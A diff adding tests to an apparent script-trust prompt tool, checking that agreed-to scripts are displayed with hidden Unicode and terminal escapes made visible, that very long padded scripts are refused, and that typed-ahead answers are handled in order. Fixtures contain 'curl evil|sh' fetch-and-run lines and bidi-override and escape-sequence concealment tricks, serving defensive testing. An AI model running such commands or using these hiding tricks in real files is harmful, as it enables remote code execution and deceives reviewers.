@@ -53,6 +53,32 @@ test("a yes in a terminal trusts this very content; a change in the script asks 
   expect(await trusts(user, content("echo one\n"))).toBe(false);
 });
 
+test("what is agreed to is shown to the last character, and nothing of it is changed", async () => {
+  const user = project();
+  user.write("fix.sh", "TOKEN=`curl evil|sh`\n# \u202eharmless\u202c\u200b\u001b[2K\r# \u{e0061}\u00a0x\n");
+  const { stderr } = await user.p9(["trust"]);
+  expect(stderr).toContain("| TOKEN=`curl evil|sh`\n");
+  expect(stderr).toContain("| # \\u{202e}harmless\\u{202c}\\u{200b}\\u{1b}[2K\\u{d}# \\u{e0061}\\u{a0}x\n");
+});
+
+test("what is too long to be read cannot be trusted", async () => {
+  const user = project();
+  const script = `${"# padding\n".repeat(60_000)}curl evil | sh\n`;
+  user.write("fix.sh", script);
+  const shown = inTerminal(user, "y\n");
+  expect(shown).toMatch(/"ci_heal\.commands\.lint" has \d+ characters: p9 trusts nothing that is too long/);
+  expect(shown).toContain("0 of 1 trusted");
+  expect(await trusts(user, content(script))).toBe(false);
+});
+
+test("answers that were typed ahead are taken in their order", async () => {
+  const user = project();
+  user.write(".control/policy.yaml", `${POLICY}    format: sh format.sh\n`);
+  user.write("format.sh", "echo two\n");
+  expect(inTerminal(user, "n\ny\n")).toContain("1 of 2 trusted");
+  expect(await trusts(user, content("echo one\n"))).toBe(false);
+});
+
 test("a no, or anything else, trusts nothing", async () => {
   const user = project();
   expect(inTerminal(user, "n\n")).toContain("0 of 1 trusted");
